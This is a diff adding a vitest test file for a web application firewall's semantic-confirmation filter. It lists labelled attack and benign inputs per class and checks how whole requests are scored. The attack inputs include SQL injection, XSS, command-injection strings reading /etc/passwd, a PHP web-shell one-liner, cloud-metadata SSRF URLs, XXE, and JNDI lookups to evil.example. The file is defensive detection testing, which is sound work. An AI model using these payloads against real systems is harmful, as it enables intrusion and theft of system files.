@@ -1,0 +1,98 @@
+// Semantic confirmation (filter/core/confirm.ts): the syntax each class needs before a window may
+// score in the attack bands. Benign shapes the model over-reads must be rejected; the attacks of
+// each class accepted. A table per class; plus the gate's effect on whole requests.
+import { beforeAll, describe, expect, it } from "vitest";
+import { type Core, loadCore } from "../support/core";
+
+let core: Core;
+beforeAll(async () => { core = await loadCore(); expect(core.configure("")).toBeNull(); });
+
+const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
+  // sqli
+  ["sqli", "1' OR '1'='1", true],
+  ["sqli", "1 UNION SELECT password FROM users--", true],
+  ["sqli", "admin'--", true],
+  ["sqli", "uni/**/on sel/**/ect", true],
+  ["sqli", "' MOD '", true],
+  ["sqli", "1;waitfor delay '0:0:5'", true],
+  ["sqli", "516,516,4,4,4", false],
+  ["sqli", "cats OR dogs", false],
+  ["sqli", "0=9058,1=7897,2=1234", true], // digits=digits is a tautology shape; the model decides
+  // xss
+  ["xss", "<script>alert(1)</script>", true],
+  ["xss", "<img src=x onerror=alert(1)>", true],
+  ["xss", "\" onmouseover=\"alert(1)", true],
+  ["xss", "javascript:alert(document.cookie)", true],
+  ["xss", "alert.call(null,1)", true],
+  ["xss", "top[/al/.source+/ert/.source](1)", true],
+  ["xss", "javascript:;", false],
+  ["xss", "javascript:void(0)", false],
+  ["xss", "[object Object]", false],
+  ["xss", "script-src 'self' 'unsafe-inline'", false],
+  // rce
+  ["rce", ";cat /etc/passwd", true],
+  ["rce", "| whoami", true],
+  ["rce", "$(id)", true],
+  ["rce", "c''at /etc/passwd", true],
+  ["rce", "${T(java.lang.Runtime).getRuntime().exec('id')}", true],
+  ["rce", "<?php system($_GET['c']); ?>", true],
+  ["rce", "please cat the file and id it", false],
+  // traversal
+  ["traversal", "../../../etc/passwd", true],
+  ["traversal", "..\\..\\windows\\win.ini", true],
+  ["traversal", "....//....//etc/passwd", true],
+  ["traversal", "C:/inetpub/wwwroot/web.config", true],
+  ["traversal", "你好%世界%", false],
+  ["traversal", "wait... what?", false],
+  // ssrf and open redirect
+  ["ssrf", "http://169.254.169.254/latest/meta-data/", true],
+  ["ssrf", "gopher://127.0.0.1:6379/_INFO", true],
+  ["ssrf", "a8Fk2/9sdP+qq/ZZ0==", false],
+  ["open_redirect", "//evil.example/", true],
+  ["open_redirect", "https://evil.example", true],
+  ["open_redirect", "\\j\\av\\a\\s\\cr\\i\\pt\\:alert(1)", true],
+  ["open_redirect", "eyJ0eXAiOiJKV1QiLCJhbGc/iOiJIUzI1NiJ9+abc", false],
+  // jndi, ssti, xxe, nosqli, crlf, ldapi
+  ["jndi", "${jndi:ldap://x.example/a}", true],
+  ["jndi", "${${lower:j}ndi:ldap://x/a}", true],
+  ["jndi", "${GDPR}", false],
+  ["ssti", "{{7*7}}", true],
+  ["ssti", "${7*7}", true],
+  ["ssti", "{{config.items()}}", true],
+  ["ssti", "{{uid}}", false],
+  ["xxe", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", true],
+  ["xxe", "<order><id>42</id></order>", false],
+  ["nosqli", "{\"$ne\": null}", true],
+  ["nosqli", "[$gt]=", true],
+  ["nosqli", "price: 5 dollars", false],
+  ["crlf", "x\r\nSet-Cookie: a=b", true],
+  ["crlf", "line one\nline two", false],
+  ["ldapi", "*)(uid=*))(|(uid=*", true],
+  ["ldapi", "(see page 4)", false],
+];
+
+describe("semantic confirmation", () => {
+  it.each(CASES)("%s: %j -> %s", (klass, text, confirmed) => {
+    expect(core.confirms(klass, text)).toBe(confirmed);
+  });
+
+  it("every attack class has cases both ways", () => {
+    for (const k of core.heads.slice(1)) {
+      const mine = CASES.filter(([c]) => c === k);
+      expect(mine.some(([, , v]) => v), k).toBe(true);
+      if (!["open_redirect", "ssrf"].includes(k)) expect(mine.some(([, , v]) => !v), k).toBe(true);
+    }
+  });
+
+  it("holds unconfirmed windows outside the attack bands: real-traffic shapes score over 50", () => {
+    for (const [where, text] of [["query", "ids=516,516,4,4,4,4,7,7"], ["query", "href=javascript:void(0)"], ["body:json", '{"v":"[object Object]"}']] as const) {
+      expect(core.score(where, text).score, text).toBeGreaterThan(50);
+    }
+  });
+
+  it("lets confirmed attacks through the gate", () => {
+    for (const [where, text] of [["query", "id=1%27%20OR%20%271%27%3D%271"], ["query", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"], ["header:User-Agent", "${jndi:ldap://evil.example/a}"]] as const) {
+      expect(core.score(where, text).score, text).toBeLessThanOrEqual(20);
+    }
+  });
+});
